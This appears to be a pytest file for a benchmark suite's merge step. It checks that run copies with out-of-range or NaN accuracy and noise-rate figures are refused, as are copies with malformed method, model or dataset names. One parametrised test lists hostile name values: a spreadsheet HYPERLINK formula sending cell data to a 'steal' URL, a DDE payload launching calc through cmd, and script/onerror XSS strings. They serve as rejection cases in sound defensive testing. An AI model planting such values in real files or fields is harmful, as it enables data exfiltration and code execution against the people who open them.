"""merge refuses a copy whose figures or names are implausible, however consistent its files are:
accuracies and rates finite and in [0, 1] where recorded, method / model / dataset names of the
registries' form (benchmark/store/verify.py's _check_plausible)."""
from __future__ import annotations

import json
import math
from pathlib import Path

import pytest

from benchmark.store import Store, summarise
from tests.benchmark.store.test_merge import merged, set_test_acc
from tests.benchmark.store.test_merge_received import refusal, rehash


def set_cell(run_dir: Path, epoch: int, column: str, text: str) -> None:
    """Write ``text`` into one cell of metrics.csv."""
    lines = (run_dir / "metrics.csv").read_text().splitlines()
    cells = lines[epoch].split(",")
    cells[lines[0].split(",").index(column)] = text
    lines[epoch] = ",".join(cells)
    (run_dir / "metrics.csv").write_text("\n".join(lines) + "\n")


@pytest.mark.parametrize("value", [-1e308, 1.5])
def test_an_accuracy_out_of_range_is_refused(stores, value):
    tmp, ids = stores
    set_test_acc(tmp / "b" / ids["b"], 2, value)  # metrics.csv and result.json agree on it
    report = merged([tmp / "a", tmp / "b"], tmp / "merged")
    assert report.copied == [ids["a"]] and not (tmp / "merged" / ids["b"]).exists()
    why = refusal(report, ids["b"])
    assert why.startswith("result.json test/acc") and why.endswith(f"= {value!r}: not a fraction in [0, 1]")


def test_an_accuracy_of_nan_is_refused(stores):
    """NaN written into result.json (the suite writes null for what it did not record) and
    metrics.csv alike: consistent, and refused."""
    tmp, ids = stores
    run_dir = tmp / "b" / ids["b"]
    store = Store(run_dir.parent)
    rows = store.read_metrics(ids["b"])
    rows[-1]["test/acc"] = math.nan
    store.write_metrics(ids["b"], [{k: (int(v) if k == "epoch" else v) for k, v in r.items()} for r in rows])
    result = {**json.loads((run_dir / "result.json").read_text()), **summarise(rows)}
    (run_dir / "result.json").write_text(json.dumps(result))  # allow_nan: a literal NaN
    assert "NaN" in (run_dir / "result.json").read_text()
    report = merged([tmp / "b"], tmp / "merged")
    assert refusal(report, ids["b"]).endswith("= nan: not a fraction in [0, 1]") and report.copied == []


def test_a_rate_out_of_range_is_refused(stores):
    tmp, ids = stores
    path = tmp / "b" / ids["b"] / "result.json"
    result = json.loads(path.read_text())
    result["noise"]["actual_rate"] = 7.0
    path.write_text(json.dumps(result))
    report = merged([tmp / "b"], tmp / "merged")
    assert refusal(report, ids["b"]) == "result.json noise.actual_rate = 7.0: not a fraction in [0, 1]"


def test_a_fraction_only_in_metrics_csv_is_checked_too(stores):
    tmp, ids = stores
    set_cell(tmp / "b" / ids["b"], 1, "memo/noisy_fit", "inf")  # result.json has the last epoch's only
    report = merged([tmp / "b"], tmp / "merged")
    assert refusal(report, ids["b"]) == "metrics.csv row 1 memo/noisy_fit = inf: not a fraction in [0, 1]"


def test_a_figure_never_recorded_is_fine(stores):
    """null in result.json and nan in metrics.csv (what the suite writes for an undefined figure)."""
    tmp, ids = stores
    set_cell(tmp / "b" / ids["b"], 1, "memo/true_fit", "nan")
    report = merged([tmp / "b"], tmp / "merged")
    assert report.ok and report.copied == [ids["b"]]


@pytest.mark.parametrize("field, name", [
    ("method", '=HYPERLINK("http://example.com/steal?"&A1,"ce")'),
    ("method", "+cmd|' /C calc'!A0"),
    ("model", "<img src=x onerror=alert(1)>"),
    ("dataset", "<script>alert(1)</script>"),
    ("dataset", "folder:/data/<b>x</b>"),
    ("dataset", "digits\n=1+1"),
    ("method", ["ce"]),
])
def test_a_name_that_is_not_registry_shaped_is_refused(stores, field, name):
    tmp, ids = stores
    rid = rehash(tmp / "b" / ids["b"], **{field: name})  # hashed into its own run id: consistent
    report = merged([tmp / "a", tmp / "b"], tmp / "merged")
    assert report.copied == [ids["a"]] and not (tmp / "merged" / rid).exists()
    why = refusal(report, rid)
    assert why.startswith(f"config.json {field} {name!r:.80} is not a name of the registries' form")


@pytest.mark.parametrize("field, name", [("method", "gce+obd"), ("method", "my_plugin:taylor-ce.v2"),
                                         ("model", "resnet50_imagenet"),
                                         ("dataset", "folder:/data/My Images_2@64"),
                                         ("dataset", "list:../lists/train+test.csv"),
                                         ("dataset", "folder:~/data/caf\u00e9")])
def test_names_of_the_suites_own_forms_merge(stores, field, name):
    tmp, ids = stores
    rid = rehash(tmp / "b" / ids["b"], **{field: name})
    report = merged([tmp / "b"], tmp / "merged")
    assert report.ok and report.copied == [rid], report.refused
